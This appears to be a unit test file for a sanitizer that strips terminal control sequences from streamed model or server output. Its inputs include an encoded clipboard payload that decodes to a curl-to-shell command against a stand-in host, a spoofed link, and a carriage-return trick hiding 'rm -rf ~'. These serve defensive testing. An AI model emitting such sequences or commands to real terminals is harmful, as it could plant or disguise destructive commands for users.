// Text from a model or a server never drives the terminal: the scanner that removes control
// sequences (repl/chat/terminal-text.ts), chunk by chunk as a stream arrives.
import { suite } from "uvu";
import * as assert from "uvu/assert";
import { TerminalText, terminalSafe } from "../../repl/chat/terminal-text.js";

const clean = suite("terminal-safe text");

clean("OSC 52 (clipboard), OSC 0/2 (title), OSC 8 (links), CSI clears and moves are removed with their payload", () => {
  assert.is(terminalSafe("a\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\x07b"), "ab");
  assert.is(terminalSafe("a\x1b]0;pwned\x07b\x1b]2;pwned\x1b\\c"), "abc");
  assert.is(terminalSafe("\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\"), "click");
  assert.is(terminalSafe("x\x1b[2J\x1b[3J\x1b[H\x1b[10;20Hy\x1b[?1049h\x1b[31mz"), "xyz");
  assert.is(terminalSafe("DCS \x1bPq#0;2;0;0;0\x1b\\ APC \x1b_payload\x1b\\ end"), "DCS  APC  end");
  assert.is(terminalSafe("reset\x1bc and \x1b(0charset\x1b(B"), "reset and charset");
});

clean("8-bit C1 controls (CSI, OSC, their strings) and other C0 controls go; text, newlines, tabs and non-ASCII stay", () => {
  assert.is(terminalSafe("a\u009b2Jb\u009d52;c;eA==\u0007c\u009c"), "abc");
  assert.is(terminalSafe("bell\x07 back\bspace\x00nul\x7f"), "bell backspacenul");
  assert.is(terminalSafe("línea 1\n\tcafé 機密 секрет ✓"), "línea 1\n\tcafé 機密 секрет ✓");
});

clean("a carriage return cannot overwrite a line: \\r\\n is one line end, a lone \\r becomes one", () => {
  assert.is(terminalSafe("one\r\ntwo"), "one\ntwo");
  assert.is(terminalSafe("Safe text\rrm -rf ~"), "Safe text\nrm -rf ~");
  assert.is(terminalSafe("end\r"), "end\n");
});

clean("a sequence split across chunks is removed whole, its payload too", () => {
  const s = new TerminalText();
  const parts = ["hi \x1b", "]52;c;Y3Vy", "bA==", "\x07 there \x1b[", "2", "J!", "\r", "\nok"];
  assert.is(parts.map((p) => s.push(p)).join("") + s.end(), "hi  there !\nok");
  // every split point of a hostile reply gives the same clean text
  const reply = "A\x1b]0;t\x07B\x1b[31mC\u009b1mD\x1b]8;;u\x1b\\E\r\nF";
  for (let i = 0; i <= reply.length; i++) {
    const t = new TerminalText();
    assert.is(t.push(reply.slice(0, i)) + t.push(reply.slice(i)) + t.end(), "ABCDE\nF", `split at ${i}`);
  }
});

clean("linear: a megabyte of escapes is cleaned in one pass", () => {
  const big = "\x1b[31mred\x1b[0m ".repeat(100_000);
  const t0 = performance.now();
  assert.is(terminalSafe(big), "red ".repeat(100_000));
  assert.ok(performance.now() - t0 < 2_000, `${performance.now() - t0} ms`);
});

clean.run();
